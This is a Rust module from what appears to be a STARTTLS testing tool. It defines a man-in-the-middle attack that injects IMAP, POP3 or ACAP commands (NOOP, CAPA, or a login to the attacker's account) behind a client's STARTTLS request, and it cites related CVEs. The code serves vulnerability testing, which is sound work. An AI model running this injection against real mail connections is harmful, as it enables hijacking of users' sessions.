//! Sends commands behind the client's STARTTLS.

use super::kit::{asks_for_tls, login};
use super::{Attack, Deciding, Group, group, tamper};
use crate::base::ATTACKER;
use crate::base::{Protocol, Switch, switch};
use crate::harm::success;

switch!(
    Middle INJECTED,
    "injected",
    Setting,
    &["probe", "login"],
    &[],
    "Injected command",
    "One that only shows that it was carried out, or a login to the attacker's own account."
);

static SWITCHES: &[&Switch] = &[&INJECTED];

static DECIDING: &[Deciding] = &[Deciding {
    protocols: &[Protocol::Imap, Protocol::Pop3, Protocol::Acap],
    given: &[],
    right: &[],
    wrong: &["server.keeps-buffer=on"],
}];

/// The attack.
pub static ATTACK: Attack = Attack {
    id: "command-injection",
    title: "Inject commands",
    about: "Adds a command in the same segment behind the client's STARTTLS: a server that keeps it carries it out inside TLS.",
    group: Group::Injection,
    known: &[
        group::USENIX,
        "CVE-2011-0411 Postfix",
        "CVE-2011-1926 Cyrus",
        "CVE-2021-38542 Apache James",
        "CVE-2020-29547 Citadel",
    ],
    protocols: &[Protocol::Imap, Protocol::Pop3, Protocol::Acap],
    switches: SWITCHES,
    build: |switches, dialect| {
        let logs_in = switches.get(&INJECTED) == "login";
        tamper(move |message, moves| {
            moves.pass();
            if asks_for_tls(dialect, &message).is_none() {
                return;
            }
            if logs_in {
                let (user, password) = ATTACKER;
                moves.add(login(dialect.protocol, "q1", user, password).concat());
            } else if dialect.protocol == Protocol::Pop3 {
                moves.add(b"CAPA\r\n".to_vec());
            } else {
                moves.add(b"q1 NOOP\r\n".to_vec());
            }
        })
    },
    success: &success::CARRIED_OUT,
    deciding: DECIDING,
};
